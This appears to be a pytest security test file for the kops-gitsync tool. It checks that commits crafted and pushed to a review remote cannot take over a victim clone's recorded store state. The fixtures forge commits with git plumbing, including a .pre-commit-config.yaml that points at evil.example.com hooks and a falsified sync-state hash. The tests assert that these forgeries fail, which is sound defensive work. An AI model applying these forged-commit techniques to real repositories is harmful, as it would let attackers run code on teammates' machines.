"""A commit anyone can push to the review remote, with two trailer lines in its message,
must not become "the store state" of a clone that runs ``kops-gitsync pull``.

``observed_tip`` looks for the newest observed commit in every branch and remote-tracking
branch (so a teammate's fresh clone continues the store's history). A crafted commit there
was adopted as is: pull then fast-forwarded the user's branch to whatever tree it held (a
``.pre-commit-config.yaml`` that runs the attacker's code on the next commit), or, shaped
like a real observed commit, merged unreviewed object content into the branch, because pull
trusted the versions it claimed and read nothing.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.attack.helpers import NODES, cli, git, init_repo, write_store

OBSERVED = "refs/kops-gitsync/observed/default"
EVIL = b"apiVersion: kops.k8s.io/v1alpha2\nkind: InstanceGroup\n# the attacker's nodes\n"


def commit_tree(repo: Path, tree: str, parent: str, message: str) -> str:
    return subprocess.run(["git", "commit-tree", tree, "-p", parent, "-m", message], cwd=repo,
                          check=True, capture_output=True, text=True).stdout.strip()


def tree_with(repo: Path, base: str, files: dict[str, bytes]) -> str:
    env = dict(os.environ, GIT_INDEX_FILE=str(repo / ".git" / "forge-index"))
    subprocess.run(["git", "read-tree", base], cwd=repo, env=env, check=True)
    for path, data in files.items():
        blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input=data,
                              capture_output=True, check=True).stdout.decode().strip()
        subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}"],
                       cwd=repo, env=env, check=True)
    tree = subprocess.run(["git", "write-tree"], cwd=repo, env=env, check=True,
                          capture_output=True, text=True).stdout.strip()
    os.unlink(env["GIT_INDEX_FILE"])
    return tree


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, Path, Path]:
    """store, attacker clone, victim clone, bare review remote; both clones pulled."""
    store = write_store(tmp_path / "store")
    seed = init_repo(tmp_path / "seed")
    assert cli("pull", "--state", f"file://{store}", cwd=seed).code == 0
    bare = tmp_path / "review.git"
    git(tmp_path, "clone", "-q", "--bare", str(seed), str(bare))
    clones = []
    for name in ("attacker", "victim"):
        git(tmp_path, "clone", "-q", str(bare), str(tmp_path / name))
        pulled = cli("pull", "--state", f"file://{store}", cwd=tmp_path / name)
        assert pulled.code == 0, pulled.err
        clones.append(tmp_path / name)
    return store, clones[0], clones[1], bare


def publish(attacker: Path, commit: str) -> None:
    git(attacker, "push", "-q", "origin", f"{commit}:refs/heads/innocent-looking")


def trailers(store: Path) -> str:
    return ("pull default: 1 modified\n\nKops-Gitsync-Store: default\n"
            f"Kops-Gitsync-Operation: pull\nKops-Gitsync-State: file://{store}\n")


def victim_pulls(victim: Path) -> tuple[str, str]:
    git(victim, "fetch", "-q", "origin")
    before = git(victim, "rev-parse", "HEAD").strip()
    run = cli("pull", cwd=victim)
    assert run.code in (0, 1) and "Traceback" not in run.err, run.err
    return before, run.err


def test_a_crafted_commit_on_a_branch_cannot_move_main_to_its_tree(
    world: tuple[Path, Path, Path, Path]
) -> None:
    store, attacker, victim, _bare = world
    head = git(attacker, "rev-parse", "HEAD").strip()
    tree = tree_with(attacker, head, {
        ".pre-commit-config.yaml": b"repos: [{repo: https://evil.example.com/hooks}]\n",
        f"state/{NODES}": EVIL,
    })
    publish(attacker, commit_tree(attacker, tree, head, trailers(store)))
    before, err = victim_pulls(victim)
    assert not (victim / ".pre-commit-config.yaml").exists(), err
    assert (victim / "state" / NODES).read_bytes() == (store / NODES).read_bytes()
    assert git(victim, "rev-parse", "HEAD").strip() == before


def test_a_crafted_observed_commit_cannot_bring_unread_content(
    world: tuple[Path, Path, Path, Path]
) -> None:
    """Shaped exactly like a pull commit: its parent the observed tip, only the mirror and
    the sync state, the live version claimed for content the store never held."""
    store, attacker, victim, _bare = world
    tip = git(attacker, "rev-parse", OBSERVED).strip()
    state = json.loads(git(attacker, "show", f"{tip}:.kops-gitsync/default.json"))
    import hashlib

    state["objects"][NODES]["sha256"] = hashlib.sha256(EVIL).hexdigest()
    state["objects"][NODES]["size"] = len(EVIL)
    tree = tree_with(attacker, tip, {
        f"state/{NODES}": EVIL,
        ".kops-gitsync/default.json": json.dumps(state, indent=2).encode(),
    })
    forged = commit_tree(attacker, tree, tip, trailers(store))
    publish(attacker, forged)
    _before, err = victim_pulls(victim)
    assert (victim / "state" / NODES).read_bytes() == (store / NODES).read_bytes(), err
    assert EVIL not in git(victim, "show", f"HEAD:state/{NODES}").encode()
    # and what the victim's clone records as the store state is the store's content
    assert git(victim, "show", f"{OBSERVED}:state/{NODES}").encode() == (
        store / NODES).read_bytes()


def test_a_teammates_real_observed_commit_is_adopted_and_read_once(
    world: tuple[Path, Path, Path, Path]
) -> None:
    """The legitimate case: a teammate pulled a store change and pushed main. The victim's
    clone continues that history (no second one), reads every object once to confirm what
    it records, then trusts it again."""
    store, teammate, victim, _bare = world
    nodes = store / NODES
    nodes.write_bytes(nodes.read_bytes().replace(b"maxSize: 2", b"maxSize: 4"))
    assert cli("pull", cwd=teammate).code == 0
    git(teammate, "push", "-q", "origin", "HEAD:main")
    git(victim, "pull", "-q", "--ff-only", "origin", "main")
    status = cli("status", cwd=victim)  # adopts it, and leaves the reading to pull
    assert "Traceback" not in status.err, status.err
    assert git(victim, "rev-parse", OBSERVED) == git(teammate, "rev-parse", OBSERVED)
    first = cli("pull", cwd=victim)
    assert first.code == 0 and "up to date" in first.out and "read 3" in first.out, first.out
    again = cli("pull", cwd=victim)
    assert again.code == 0 and "read 0" in again.out, again.out
    assert git(victim, "rev-parse", OBSERVED) == git(teammate, "rev-parse", OBSERVED)
